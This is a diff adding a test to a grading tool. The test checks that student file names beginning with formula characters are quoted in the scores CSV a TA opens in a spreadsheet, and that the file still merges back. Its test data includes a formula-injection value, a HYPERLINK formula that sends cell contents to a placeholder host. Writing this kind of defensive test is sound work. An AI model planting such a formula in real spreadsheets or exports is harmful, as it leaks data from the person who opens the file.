@@ -266,3 +266,27 @@ def test_review_page_is_read_only_without_its_script(results):
     for part in WRITTEN:
         assert f'data-part="{part.id}"' in html and f'max="{part.points:g}"' in html
     assert 'data-student="alice.ipynb"' in html
+
+
+def test_the_scores_template_is_safe_to_open_in_a_spreadsheet_and_still_round_trips(tmp_path):
+    """A hand-in named like a formula (`=HYPERLINK(...)`, `+`, `-`, `@`; a file name is the
+    student's to choose) was written as it is into the scores file the TA copies from the review
+    page and opens in a spreadsheet, where it ran as a formula; gradebook exports already quote it.
+    Now every student cell of that file starts with a quote, and the file merges as it is."""
+    names = ['=HYPERLINK("http://x.example/?"&A2,"open").ipynb', "+1.ipynb", "-2.ipynb", "@SUM(A1).ipynb",
+             "'=already-quoted.ipynb", "plain.ipynb"]
+    results = [result(n, 10.0, {"2b-proof": "induction"}) for n in names]
+    html = review(results, ASSIGNMENT)
+    block = re.findall(r"<pre>(.*?)</pre>", html, re.DOTALL)[-1]
+    import html as html_module
+    rows = list(csv.reader(io.StringIO(html_module.unescape(block))))[1:]
+    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows), rows
+    # the page's "download scores.csv" (templates/review.js) writes the same cells
+    cells = [html_module.unescape(c) for c in re.findall(r'data-student-cell="([^"]*)"', html)]
+    assert sorted(set(cells)) == sorted({row[0] for row in rows})
+    filled = [[s, p, "2" if p == "2b-proof" else "", c] for s, p, _, c in rows]
+    out = io.StringIO()
+    csv.writer(out).writerows(filled)
+    merged = apply_manual_scores(results, scores_file(tmp_path, out.getvalue()))
+    assert [r.submission for r in merged] == names
+    assert [manual_score(r) for r in merged] == [2.0] * len(names)
